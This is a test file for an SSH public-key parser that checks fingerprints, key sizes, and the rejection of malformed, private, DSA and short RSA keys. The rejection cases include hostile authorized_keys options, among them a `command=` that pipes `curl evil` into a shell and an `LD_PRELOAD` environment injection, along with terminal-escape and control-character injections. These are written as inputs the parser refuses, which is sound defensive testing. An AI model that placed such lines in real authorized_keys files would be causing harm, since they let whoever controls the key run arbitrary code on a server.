import { createHash, generateKeyPairSync } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { parseSshPublicKey } from '../../../src/core/roster/ssh-public-key.ts';

// --- OpenSSH wire format, built here independently of the code under test (RFC 4253 §6.6, RFC 5656 §3.1).

function sshString(data: Uint8Array | string): Buffer {
  const body = typeof data === 'string' ? Buffer.from(data, 'latin1') : Buffer.from(data);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(body.length);
  return Buffer.concat([length, body]);
}

function sshMpint(unsigned: Buffer): Buffer {
  let start = 0;
  while (start < unsigned.length - 1 && unsigned[start] === 0) start++;
  const trimmed = unsigned.subarray(start);
  return sshString(((trimmed[0] ?? 0) & 0x80) !== 0 ? Buffer.concat([Buffer.from([0]), trimmed]) : trimmed);
}

const fromBase64Url = (text: string | undefined) => Buffer.from(text ?? '', 'base64url');
const CURVES = { 'P-256': 'nistp256', 'P-384': 'nistp384', 'P-521': 'nistp521' } as const;

function generateOpenSshKey(
  kind: 'ed25519' | 'rsa' | 'ec',
  options: { modulusLength?: number; namedCurve?: keyof typeof CURVES } = {},
): { type: string; blob: Buffer } {
  if (kind === 'ed25519') {
    const jwk = generateKeyPairSync('ed25519').publicKey.export({ format: 'jwk' });
    return { type: 'ssh-ed25519', blob: Buffer.concat([sshString('ssh-ed25519'), sshString(fromBase64Url(jwk.x))]) };
  }
  if (kind === 'rsa') {
    const modulusLength = options.modulusLength ?? 2048;
    const jwk = generateKeyPairSync('rsa', { modulusLength }).publicKey.export({ format: 'jwk' });
    return {
      type: 'ssh-rsa',
      blob: Buffer.concat([sshString('ssh-rsa'), sshMpint(fromBase64Url(jwk.e)), sshMpint(fromBase64Url(jwk.n))]),
    };
  }
  const namedCurve = options.namedCurve ?? 'P-256';
  const curve = CURVES[namedCurve];
  const jwk = generateKeyPairSync('ec', { namedCurve }).publicKey.export({ format: 'jwk' });
  const point = Buffer.concat([Buffer.from([4]), fromBase64Url(jwk.x), fromBase64Url(jwk.y)]);
  const type = `ecdsa-sha2-${curve}`;
  return { type, blob: Buffer.concat([sshString(type), sshString(curve), sshString(point)]) };
}

const expectedFingerprint = (blob: Buffer) =>
  `SHA256:${createHash('sha256').update(blob).digest('base64').replace(/=+$/, '')}`;

function reason(text: string): string {
  const result = parseSshPublicKey(text);
  if (result.ok) throw new Error(`expected '${text.slice(0, 60)}…' to be rejected`);
  return result.reason;
}

// --- Fixed keys; each fingerprint is what `ssh-keygen -lf key.pub` (OpenSSH 9.2p1) printed for it.

const ED25519 = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAICObl268Ugujkfch9i80BKhSpIDWWXJgML/KubFFss3a alice@laptop';
const RSA_2048 =
  'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC4BzbEsfFXpGXJNCZ6fqEIQ4ouftlO/xjmQPi+93GscE1RSRFpaudUaGYq3hH1Cc58NeNEHqin8gpJ9teqA/YT/t0yefQDq9l2VviQX7c9i1rATIWn5KdwnsLAfLMX0E48jnh4+SGxhRh/LE0y9+g60U2cycnRVDq9UsySGDN78WpwYgNVDnVaIkaD6eXSeyTSTb10zjVHDgQ3xwGZJBfBo+D1s6AEDPLkz0xYzTmf7fcoXW0HgEDGh1eVhnQwJaK4KH+aInNX44VI3SgG0qZ7c0wLVIJu4j0MHO+FgF5zKGqQGvMxTmmbnyIRBF/PGhDFLUtX3Cd67ErstcQaUddx bob rsa';
const RSA_1024 =
  'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDUPSjlVznXqpBlaQkfJ3u46/m6K1GKc0cYrpdF8GyZYhp5ZoT2AP9DY4kQze16rbJlQvx7iCHkIw45KkBPK2XN5z5zYP1K1KsRUWGQxMiy8zYhtB9+7oTXfnAmZV2I6iI3lyRSi8/267uJnf4R4Hc8a3jnCo2qDKKgNLrp/ukxmQ== old';
const ECDSA_384 =
  'ecdsa-sha2-nistp384 AAAAE2VjZHNhLXNoYTItbmlzdHAzODQAAAAIbmlzdHAzODQAAABhBH4IZpqJvt0T4xSOTAKGWGiCeN5Qhx/NzKwIIuicgFbMKpXv7m6aSFRWa9i2oZznzmNIllzRlAFmaavYPcdXPth0IJ+AmJYVDK3PX/2Usz907R9R+pKFso0PmU+N9BeBPQ== carol';
const SK_ED25519 =
  'sk-ssh-ed25519@openssh.com AAAAGnNrLXNzaC1lZDI1NTE5QG9wZW5zc2guY29tAAAAIAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8gAAAABHNzaDo= yubikey';
const ED25519_BLOB = ED25519.split(' ')[1] ?? '';

describe('parseSshPublicKey', () => {
  it.each([
    [ED25519, 256, 'SHA256:GELpqiFOXmQkfz3zMAj3Zx9YLG+flyQSZVIWonKvIm4'],
    [RSA_2048, 2048, 'SHA256:Gdsxcjm50iS37EVHp7kS05jSwMfbPjSWvtgbPCU1KjE'],
    [ECDSA_384, 384, 'SHA256:G4G1FRa33OF5dmSlUVB+rmWlA/XFImn1gf+0csukb0g'],
    [SK_ED25519, 256, 'SHA256:nX0hpi5mKbTIJ10yBq5/sLQhiI1Y0RBAqN0drDdgJWs'],
  ])('prints the same bits and fingerprint as ssh-keygen -l for %s', (line, bits, fingerprint) => {
    const result = parseSshPublicKey(line);
    expect(result).toMatchObject({ ok: true, key: { bits, fingerprint, line } });
  });

  it('splits type, blob and comment', () => {
    expect(parseSshPublicKey(ED25519)).toEqual({
      ok: true,
      key: {
        type: 'ssh-ed25519',
        blob: ED25519_BLOB,
        comment: 'alice@laptop',
        bits: 256,
        fingerprint: 'SHA256:GELpqiFOXmQkfz3zMAj3Zx9YLG+flyQSZVIWonKvIm4',
        line: ED25519,
      },
    });
  });

  it.each([
    ['ed25519', generateOpenSshKey('ed25519'), 256],
    ['rsa 2048', generateOpenSshKey('rsa', { modulusLength: 2048 }), 2048],
    ['rsa 3072', generateOpenSshKey('rsa', { modulusLength: 3072 }), 3072],
    ['ecdsa p256', generateOpenSshKey('ec', { namedCurve: 'P-256' }), 256],
    ['ecdsa p384', generateOpenSshKey('ec', { namedCurve: 'P-384' }), 384],
    ['ecdsa p521', generateOpenSshKey('ec', { namedCurve: 'P-521' }), 521],
  ])('accepts a freshly generated %s key', (_name, { type, blob }, bits) => {
    const line = `${type} ${blob.toString('base64')} someone@example`;
    expect(parseSshPublicKey(line)).toEqual({
      ok: true,
      key: {
        type,
        blob: blob.toString('base64'),
        comment: 'someone@example',
        bits,
        fingerprint: expectedFingerprint(blob),
        line,
      },
    });
  });

  it('accepts a FIDO sk-ecdsa key (the P-256 point followed by the application string)', () => {
    const jwk = generateKeyPairSync('ec', { namedCurve: 'P-256' }).publicKey.export({ format: 'jwk' });
    const point = Buffer.concat([Buffer.from([4]), fromBase64Url(jwk.x), fromBase64Url(jwk.y)]);
    const type = 'sk-ecdsa-sha2-nistp256@openssh.com';
    const blob = Buffer.concat([sshString(type), sshString('nistp256'), sshString(point), sshString('ssh:')]);
    expect(parseSshPublicKey(`${type} ${blob.toString('base64')}`)).toMatchObject({
      ok: true,
      key: { type, bits: 256, comment: '', fingerprint: expectedFingerprint(blob) },
    });
  });

  it('normalises surrounding and separating spaces but keeps spaces inside the comment', () => {
    const result = parseSshPublicKey(`  ssh-ed25519    ${ED25519_BLOB}   Alice  Liddell (laptop)  `);
    expect(result).toMatchObject({
      ok: true,
      key: { comment: 'Alice  Liddell (laptop)', line: `ssh-ed25519 ${ED25519_BLOB} Alice  Liddell (laptop)` },
    });
  });

  it('accepts a key without a comment and writes no trailing space', () => {
    expect(parseSshPublicKey(`ssh-ed25519 ${ED25519_BLOB}`)).toMatchObject({
      ok: true,
      key: { comment: '', line: `ssh-ed25519 ${ED25519_BLOB}` },
    });
  });

  it('keeps a non-ASCII comment', () => {
    expect(parseSshPublicKey(`ssh-ed25519 ${ED25519_BLOB} 张三的笔记本`)).toMatchObject({
      ok: true,
      key: { comment: '张三的笔记本' },
    });
  });

  it.each([
    `command="/bin/sh -c 'curl evil|sh'" ${ED25519}`,
    `no-pty,no-port-forwarding ${ED25519}`,
    `restrict ${ED25519}`,
    `from="10.0.0.0/8" ${ED25519}`,
    `environment="LD_PRELOAD=/tmp/x.so" ${ED25519}`,
    'no-pty',
  ])('refuses authorized_keys options before the type: %s', (line) => {
    expect(reason(line)).toMatch(/options .* not allowed/);
  });

  it.each([
    ['a newline', `${ED25519}\nssh-ed25519 ${ED25519_BLOB} second`],
    ['a CR', `${ED25519}\r`],
    ['a NUL in the comment', `ssh-ed25519 ${ED25519_BLOB} ali\u0000ce`],
    ['a tab separator', `ssh-ed25519\t${ED25519_BLOB}`],
    ['an escape in the comment', `ssh-ed25519 ${ED25519_BLOB} \u001b[2Jboom`],
    ['DEL', `ssh-ed25519 ${ED25519_BLOB} a\u007f`],
    ['a C1 control', `ssh-ed25519 ${ED25519_BLOB} a\u0085`],
    ['a Unicode line separator', `ssh-ed25519 ${ED25519_BLOB} a\u2028b`],
  ])('refuses a line containing %s', (_name, line) => {
    expect(reason(line)).toMatch(/control character/);
  });

  it.each([
    ['characters outside the alphabet', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5!!!!'],
    ['missing padding', `ssh-ed25519 ${ED25519_BLOB.slice(0, -1)}`],
    ['base64url characters', `ssh-ed25519 ${ED25519_BLOB.replaceAll('/', '_')}`],
    ['non-canonical trailing bits', `ssh-rsa ${RSA_1024.split(' ')[1]?.replace('Q==', 'R==')}`],
  ])('refuses key data with %s', (_name, line) => {
    expect(reason(line)).toMatch(/base64/);
  });

  it('refuses a blob whose embedded type differs from the declared one', () => {
    expect(reason(`ssh-rsa ${ED25519_BLOB}`)).toMatch(/says 'ssh-rsa' but the key data holds 'ssh-ed25519'/);
    expect(reason(`sk-ssh-ed25519@openssh.com ${ED25519_BLOB}`)).toMatch(/holds 'ssh-ed25519'/);
  });

  it('refuses an ECDSA blob naming a different curve than its type', () => {
    const { blob } = generateOpenSshKey('ec', { namedCurve: 'P-384' });
    // Same bytes, but claim nistp256 in the type string inside the blob too.
    const forged = Buffer.concat([sshString('ecdsa-sha2-nistp256'), blob.subarray(4 + 'ecdsa-sha2-nistp384'.length)]);
    expect(reason(`ecdsa-sha2-nistp256 ${forged.toString('base64')}`)).toMatch(/different curve/);
  });

  it('refuses DSA keys as obsolete', () => {
    const blob = Buffer.concat([sshString('ssh-dss'), sshMpint(Buffer.from([1, 2, 3]))]).toString('base64');
    expect(reason(`ssh-dss ${blob} old@box`)).toMatch(/DSA/);
  });

  it('refuses RSA keys shorter than 2048 bits and says how long they are', () => {
    expect(reason(RSA_1024)).toBe('RSA key is 1024 bits; at least 2048 are required');
    const { blob } = generateOpenSshKey('rsa', { modulusLength: 1536 });
    expect(reason(`ssh-rsa ${blob.toString('base64')}`)).toMatch(/1536 bits/);
  });

  it.each([
    [
      'an OpenSSH private key',
      '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU=\n-----END OPENSSH PRIVATE KEY-----',
    ],
    ['a PEM RSA private key', '-----BEGIN RSA PRIVATE KEY-----\nMIIEow==\n-----END RSA PRIVATE KEY-----'],
    ['a private key body without its armour', 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW'],
    ['a PuTTY private key', 'PuTTY-User-Key-File-3: ssh-ed25519'],
  ])('refuses %s and says it is private', (_name, text) => {
    expect(reason(text)).toMatch(/private key/);
  });

  it('refuses a PEM public key and says how to convert it', () => {
    expect(reason('-----BEGIN PUBLIC KEY-----MCowBQYDK2VwAyEA-----END PUBLIC KEY-----')).toMatch(/ssh-keygen -i/);
  });

  it('refuses a truncated blob', () => {
    const bytes = Buffer.from(ED25519_BLOB, 'base64');
    expect(reason(`ssh-ed25519 ${bytes.subarray(0, bytes.length - 5).toString('base64')}`)).toMatch(/truncated/);
    expect(reason(`ssh-ed25519 ${bytes.subarray(0, 10).toString('base64')}`)).toMatch(/truncated/);
    expect(reason('ssh-ed25519 AAAA')).toMatch(/truncated/);
  });

  it('refuses a blob with bytes after the key', () => {
    const bytes = Buffer.concat([Buffer.from(ED25519_BLOB, 'base64'), Buffer.from([0, 0, 0, 0])]);
    expect(reason(`ssh-ed25519 ${bytes.toString('base64')}`)).toMatch(/unexpected bytes/);
  });

  it('refuses an ed25519 key of the wrong length', () => {
    const blob = Buffer.concat([sshString('ssh-ed25519'), sshString(Buffer.alloc(31, 7))]).toString('base64');
    expect(reason(`ssh-ed25519 ${blob}`)).toMatch(/32 bytes/);
  });

  it('refuses a certificate, an unknown type, a bare type and an empty string', () => {
    expect(reason(`ssh-ed25519-cert-v01@openssh.com ${ED25519_BLOB}`)).toMatch(/certificates/);
    expect(reason(`ssh-foo ${ED25519_BLOB}`)).toMatch(/unknown or unsupported key type 'ssh-foo'/);
    expect(reason('ssh-ed25519')).toMatch(/no key data/);
    expect(reason('   ')).toMatch(/empty/);
  });
});
